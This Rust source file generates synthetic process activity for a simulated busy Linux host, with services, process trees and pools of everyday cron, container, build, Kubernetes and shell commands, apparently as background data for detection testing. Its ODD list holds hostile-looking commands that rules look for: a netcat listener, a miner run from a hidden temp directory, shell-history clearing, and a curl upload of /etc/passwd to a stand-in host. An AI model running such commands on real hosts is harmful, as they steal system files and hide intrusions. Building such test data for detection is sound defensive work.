//! What runs on the busy host.

/// A process that lives as long as the host.
#[derive(Clone, Copy)]
pub struct Service {
    pub tgid: u32,
    pub parent: u32,
    pub uid: u32,
    pub executable: &'static str,
    pub arguments: &'static str,
    /// Whether it is in a container.
    pub contained: bool,
    pub work: Work,
}

/// What a service does.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Work {
    /// It only is there.
    Waits,
    /// It starts programs.
    Starts(&'static [Command]),
    /// It takes connections to a port.
    Serves(u16),
    /// It opens connections.
    Asks,
    /// It starts processes for others' sake and gives them their rights.
    Logins,
}

/// A program, and its command line: arguments with a space between them, `{}` for a number, `{h}` for a
/// hexadecimal one, `{n}` for a name.
pub type Command = (&'static str, &'static str);

const fn service(
    (tgid, parent, uid): (u32, u32, u32),
    executable: &'static str,
    arguments: &'static str,
    work: Work,
) -> Service {
    Service {
        tgid,
        parent,
        uid,
        executable,
        arguments,
        contained: false,
        work,
    }
}

const fn contained(service: Service) -> Service {
    Service {
        contained: true,
        ..service
    }
}

/// Names that arguments are made of.
pub const NAMES: [&str; 24] = [
    "alpha", "billing", "cache", "deploy", "events", "frontend", "gateway", "history", "index",
    "jobs", "kernel", "ledger", "metrics", "network", "orders", "parser", "queue", "report",
    "search", "tokens", "users", "vector", "worker", "export",
];

pub const SERVICES: &[Service] = &[
    service(
        (1, 0, 0),
        "/usr/lib/systemd/systemd",
        "/sbin/init",
        Work::Waits,
    ),
    service((2, 0, 0), "", "kthreadd", Work::Waits),
    service(
        (600, 1, 0),
        "/usr/sbin/sshd",
        "sshd: /usr/sbin/sshd -D",
        Work::Logins,
    ),
    service(
        (610, 1, 0),
        "/usr/sbin/cron",
        "/usr/sbin/cron -f -P",
        Work::Logins,
    ),
    service(
        (620, 1, 0),
        "/bin/sh",
        "/bin/sh -c run-parts /etc/cron.hourly",
        Work::Starts(CRON),
    ),
    service(
        (700, 1, 0),
        "/usr/sbin/nginx",
        "nginx: master process /usr/sbin/nginx -g daemon on;",
        Work::Waits,
    ),
    service(
        (701, 700, 33),
        "/usr/sbin/nginx",
        "nginx: worker process",
        Work::Serves(443),
    ),
    service(
        (702, 700, 33),
        "/usr/sbin/nginx",
        "nginx: worker process",
        Work::Serves(80),
    ),
    service(
        (710, 1, 114),
        "/usr/lib/postgresql/17/bin/postgres",
        "postgres -D /var/lib/postgresql/17/main",
        Work::Serves(5432),
    ),
    service(
        (720, 1, 0),
        "/usr/bin/dockerd",
        "/usr/bin/dockerd -H fd://",
        Work::Asks,
    ),
    service(
        (721, 1, 0),
        "/usr/bin/containerd",
        "/usr/bin/containerd",
        Work::Waits,
    ),
    service(
        (730, 1, 0),
        "/usr/bin/containerd-shim-runc-v2",
        "containerd-shim-runc-v2 -namespace moby -id 0a1b -address /run/containerd/containerd.sock",
        Work::Waits,
    ),
    contained(service(
        (731, 730, 1000),
        "/usr/local/bin/python3.13",
        "/usr/local/bin/python3.13 /usr/local/bin/gunicorn -w 4 app:app",
        Work::Asks,
    )),
    contained(service(
        (732, 731, 1000),
        "/usr/local/bin/python3.13",
        "/usr/local/bin/python3.13 /usr/local/bin/gunicorn -w 4 app:app",
        Work::Serves(8000),
    )),
    contained(service(
        (733, 730, 0),
        "/bin/sh",
        "sh /opt/check.sh",
        Work::Starts(CONTAINER),
    )),
    contained(service(
        (734, 730, 999),
        "/usr/local/bin/node",
        "node /srv/app/server.js",
        Work::Asks,
    )),
    service(
        (750, 1, 101),
        "/usr/lib/systemd/systemd-resolved",
        "/usr/lib/systemd/systemd-resolved",
        Work::Waits,
    ),
    service(
        (760, 1, 110),
        "/usr/bin/java",
        "/usr/bin/java -Xmx4g -jar /usr/share/java/jenkins.war --httpPort=8080",
        Work::Asks,
    ),
    service(
        (761, 760, 110),
        "/bin/bash",
        "bash -xe /tmp/jenkins123.sh",
        Work::Starts(BUILD),
    ),
    service(
        (770, 1, 112),
        "/usr/bin/prometheus",
        "/usr/bin/prometheus --config.file=/etc/prometheus/prometheus.yml",
        Work::Asks,
    ),
    service(
        (790, 600, 0),
        "/usr/lib/openssh/sshd-session",
        "sshd-session: user [priv]",
        Work::Waits,
    ),
    service(
        (800, 790, 1000),
        "/bin/bash",
        "-bash",
        Work::Starts(SESSION),
    ),
    service(
        (810, 800, 1000),
        "/usr/bin/make",
        "make -j16 all",
        Work::Starts(BUILD),
    ),
    service(
        (811, 810, 1000),
        "/bin/sh",
        "/bin/sh -c ./configure --prefix=/usr",
        Work::Starts(CONFIGURE),
    ),
    service(
        (830, 1, 0),
        "/usr/bin/kubelet",
        "/usr/bin/kubelet --config=/var/lib/kubelet/config.yaml",
        Work::Starts(NODE),
    ),
];

const CRON: &[Command] = &[
    ("/usr/bin/run-parts", "run-parts --report /etc/cron.hourly"),
    (
        "/bin/sh",
        "/bin/sh -c test -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.daily; }",
    ),
    (
        "/usr/bin/find",
        "find /var/lib/php/sessions/ -type f -cmin +{} -delete",
    ),
    ("/usr/bin/logger", "logger -t cron job {n} took {} seconds"),
    (
        "/usr/sbin/logrotate",
        "/usr/sbin/logrotate /etc/logrotate.d/{n}",
    ),
    (
        "/usr/bin/pg_dump",
        "pg_dump --format=custom --file=/var/backups/{n}-{}.dump {n}",
    ),
    ("/usr/bin/gzip", "gzip -9 /var/backups/{n}-{}.sql"),
    (
        "/usr/bin/rsync",
        "rsync -a --delete /srv/{n}/ backup.internal:/backup/{n}/",
    ),
    ("/bin/sleep", "sleep {}"),
    (
        "/usr/bin/flock",
        "flock -n /run/lock/{n}.lock /usr/local/bin/{n} --once",
    ),
];

const CONTAINER: &[Command] = &[
    (
        "/usr/bin/curl",
        "curl -fsS --max-time 5 http://127.0.0.1:8000/healthz?probe={}",
    ),
    ("/bin/cat", "cat /srv/app/{n}.pid"),
    (
        "/usr/local/bin/python3.13",
        "python3 -m {n}.check --timeout {} --format json",
    ),
    ("/bin/grep", "grep -q ready /srv/app/state"),
    (
        "/usr/bin/env",
        "/usr/bin/env node /srv/app/jobs/{n}.js --id {h}",
    ),
    ("/usr/local/bin/node", "node /srv/app/jobs/{n}.js --id {h}"),
    ("/bin/date", "date +%s"),
    ("/usr/bin/test", "test -f /srv/app/{n}.lock"),
];

const BUILD: &[Command] = &[
    (
        "/usr/libexec/gcc/x86_64-linux-gnu/14/cc1",
        "/usr/libexec/gcc/x86_64-linux-gnu/14/cc1 -quiet -I . -I include -I ../include -I ./src/{n} -imultiarch x86_64-linux-gnu -MMD src/{n}/.deps/{n}_{}.d -MF src/{n}/.deps/{n}_{}.Tpo -MP -MT src/{n}/{n}_{}.o -D HAVE_CONFIG_H -D _GNU_SOURCE -D _FILE_OFFSET_BITS=64 -D PACKAGE_VERSION=\"{}.{}\" -D LOCALEDIR=\"/usr/share/locale\" src/{n}/{n}_{}.c -quiet -dumpdir src/{n}/ -dumpbase {n}_{}.c -dumpbase-ext .c -mtune=generic -march=x86-64 -g -O2 -Wall -Wextra -Wformat=1 -Werror=format-security -Wno-unused-parameter -fstack-protector-strong -fstack-clash-protection -fcf-protection -fasynchronous-unwind-tables -o /tmp/cc{h}.s",
    ),
    (
        "/usr/bin/x86_64-linux-gnu-gcc-14",
        "gcc -DHAVE_CONFIG_H -I. -I./include -g -O2 -Wall -Wextra -fstack-protector-strong -MT {n}_{}.o -MD -MP -MF .deps/{n}_{}.Tpo -c -o {n}_{}.o {n}_{}.c",
    ),
    (
        "/usr/bin/x86_64-linux-gnu-as",
        "as --64 -I . -I include -o {n}_{}.o /tmp/cc{h}.s",
    ),
    (
        "/usr/bin/x86_64-linux-gnu-ld.bfd",
        "/usr/bin/ld -plugin /usr/libexec/gcc/x86_64-linux-gnu/14/liblto_plugin.so --build-id --eh-frame-hdr -m elf_x86_64 --hash-style=gnu --as-needed -dynamic-linker /lib64/ld-linux-x86-64.so.2 -pie -z now -z relro -o {n} /usr/lib/x86_64-linux-gnu/Scrt1.o {n}_{}.o {n}_{}.o -lssl -lcrypto -lz -lpthread -lc",
    ),
    (
        "/usr/bin/rustc",
        "rustc --crate-name {n} --edition=2024 src/lib.rs --error-format=json --json=diagnostic-rendered-ansi,artifacts,future-incompat --crate-type lib --emit=dep-info,metadata,link -C embed-bitcode=no -C debuginfo=2 -C metadata={h} -C extra-filename=-{h} --out-dir /srv/project/target/debug/deps -L dependency=/srv/project/target/debug/deps --extern serde=/srv/project/target/debug/deps/libserde-{h}.rmeta --cap-lints allow",
    ),
    (
        "/usr/bin/git",
        "git -c core.quotepath=off rev-parse --verify HEAD~{}",
    ),
    (
        "/usr/bin/git",
        "git fetch --tags --force --progress -- https://git.internal/{n}/{n}.git +refs/heads/*:refs/remotes/origin/*",
    ),
    (
        "/bin/sh",
        "/bin/sh -c cd src/{n} && set -e; for i in a b c; do test -f .deps/$i.Po || echo > .deps/$i.Po; done",
    ),
    ("/bin/mv", "mv -f .deps/{n}_{}.Tpo .deps/{n}_{}.Po"),
    ("/bin/rm", "rm -f {n}_{}.o {n}_{}.lo core.{}"),
    ("/bin/mkdir", "mkdir -p build/{n}/{}"),
    (
        "/usr/bin/install",
        "install -m 644 include/{n}.h /srv/project/stage/usr/include/{n}.h",
    ),
    (
        "/usr/bin/tar",
        "tar --create --gzip --file build/{n}-{}.tar.gz --directory stage .",
    ),
    (
        "/usr/bin/python3.13",
        "python3 tools/generate_{n}.py --seed {} --output build/{n}.json",
    ),
    (
        "/usr/bin/java",
        "java -Xmx2g -Dfile.encoding=UTF-8 -Dmaven.home=/usr/share/maven -Dlibrary.jansi.path=/usr/share/maven/lib/jansi-native -classpath /usr/share/maven/boot/plexus-classworlds-2.x.jar:/home/ci/.m2/repository/org/{n}/{n}-core/{}.{}/{n}-core-{}.{}.jar:/home/ci/.m2/repository/org/{n}/{n}-api/{}.{}/{n}-api-{}.{}.jar:/home/ci/.m2/repository/com/{n}/{n}-client/{}.{}/{n}-client-{}.{}.jar org.codehaus.plexus.classworlds.launcher.Launcher -B -ntp verify -Drevision={h}",
    ),
    (
        "/usr/bin/cmake",
        "cmake -E cmake_depends Ninja /srv/project /srv/project/{n} /srv/project/build --color=",
    ),
];

const CONFIGURE: &[Command] = &[
    ("/usr/bin/sed", "sed -e s/@{n}@/{}/g -e s,x{}x,,"),
    ("/bin/grep", "grep -E -i ^#define.HAVE_{n} confdefs.h"),
    ("/bin/cat", "cat confdefs.h conftest.{}.c"),
    ("/usr/bin/expr", "expr X{n} : X\\(.*[^/]\\)"),
    ("/bin/rm", "rm -f conftest.{}.o core conftest.err"),
    (
        "/usr/bin/basename",
        "basename /srv/project/{n}/configure.ac .ac",
    ),
    ("/usr/bin/dirname", "dirname /srv/project/{n}/Makefile.in"),
    (
        "/usr/bin/gawk",
        "awk -f ./confstat{h}/subs.awk ./confstat{h}/{n}.in",
    ),
    ("/usr/bin/sort", "sort -u {n}.lst"),
    ("/usr/bin/wc", "wc -l {n}.lst"),
    ("/usr/bin/tr", "tr -d \\r"),
    ("/bin/ls", "ls -1t {n}_{}.c"),
    ("/usr/bin/uname", "uname -m"),
];

const SESSION: &[Command] = &[
    ("/bin/ls", "ls --color=auto -la {n}"),
    ("/usr/bin/git", "git status --short --branch"),
    ("/usr/bin/git", "git commit -m {n}:_handle_case_{}"),
    ("/usr/bin/vim.basic", "vim src/{n}/mod_{}.rs"),
    (
        "/usr/bin/ssh",
        "ssh -o ServerAliveInterval=60 deploy@{n}-{}.internal uptime",
    ),
    (
        "/usr/bin/curl",
        "curl -sS -H Accept:_application/json https://api.internal/v2/{n}/{}?fields=id,name",
    ),
    (
        "/usr/bin/kubectl",
        "kubectl --namespace {n} get pods -l app={n} -o wide",
    ),
    ("/usr/bin/docker", "docker logs --tail {} {n}-{h}"),
    (
        "/usr/bin/psql",
        "psql --host db.internal --no-psqlrc --command SELECT_count(*)_FROM_{n}_WHERE_id={}",
    ),
    ("/bin/ps", "ps -eo pid,comm,rss --sort=-rss"),
    ("/usr/bin/less", "less /var/log/{n}.log"),
    ("/usr/bin/tail", "tail -n {} -f /var/log/{n}.log"),
    (
        "/usr/bin/python3.13",
        "python3 -m pytest -q tests/test_{n}.py -k case_{}",
    ),
    (
        "/usr/bin/systemctl",
        "systemctl status {n}.service --no-pager",
    ),
    (
        "/usr/bin/find",
        "find . -name *{n}*.rs -newer Cargo.toml -not -path ./target/*",
    ),
    ("/usr/bin/rg", "rg --hidden --glob !.git {n}_{} src"),
    ("/usr/bin/cargo", "cargo test -p {n} --lib -- case_{}"),
    ("/bin/chmod", "chmod 644 docs/{n}.md"),
    (
        "/usr/bin/wget",
        "wget -q https://downloads.internal/{n}-{}.tar.gz",
    ),
];

const NODE: &[Command] = &[
    (
        "/usr/sbin/iptables",
        "iptables -w 5 -t nat -C KUBE-SERVICES -m comment --comment {n} -j KUBE-SVC-{h}",
    ),
    ("/usr/sbin/ip", "ip -o route get fibmatch 10.244.{}.1"),
    (
        "/usr/bin/mount",
        "mount -t tmpfs -o size={}m tmpfs /var/lib/kubelet/pods/{h}/volumes/kubernetes.io~secret/{n}",
    ),
    (
        "/usr/bin/umount",
        "umount /var/lib/kubelet/pods/{h}/volumes/kubernetes.io~secret/{n}",
    ),
    (
        "/usr/bin/runc",
        "runc --root /run/containerd/runc/k8s.io --log /run/containerd/io.containerd.runtime.v2.task/k8s.io/{h}/log.json --log-format json state {h}",
    ),
    ("/opt/cni/bin/bridge", "/opt/cni/bin/bridge"),
    ("/usr/sbin/conntrack", "conntrack -D --dport {} -p udp"),
    (
        "/usr/bin/du",
        "du -s --block-size=1 /var/lib/kubelet/pods/{h}/volumes",
    ),
];

/// What few hosts see, and some rules look for.
pub const ODD: &[Command] = &[
    ("/usr/bin/whoami", "whoami"),
    ("/usr/bin/base64", "base64 -d /tmp/{n}.b64"),
    ("/usr/bin/nc.openbsd", "nc -lvnp {}"),
    ("/usr/bin/chattr", "chattr +i /etc/{n}.conf"),
    ("/usr/bin/crontab", "crontab -l"),
    ("/tmp/.x/run", "/tmp/.x/run --pool {n}.example:3333"),
    ("/usr/bin/history", "history -c"),
    (
        "/usr/bin/curl",
        "curl -T /etc/passwd https://files.example/{}",
    ),
];

/// Names that are asked for.
pub const DOMAINS: [&str; 14] = [
    "api.internal",
    "db.internal",
    "git.internal",
    "deb.debian.org",
    "security.debian.org",
    "registry-1.docker.io",
    "production.cloudflare.docker.com",
    "sts.eu-central-1.amazonaws.com",
    "telemetry.vendor.example",
    "kubernetes.default.svc.cluster.local",
    "prometheus.monitoring.svc.cluster.local",
    "d1a2b3c4d5e6f7.cloudfront.net",
    "_http._tcp.deb.debian.org",
    "ocsp.digicert.com",
];
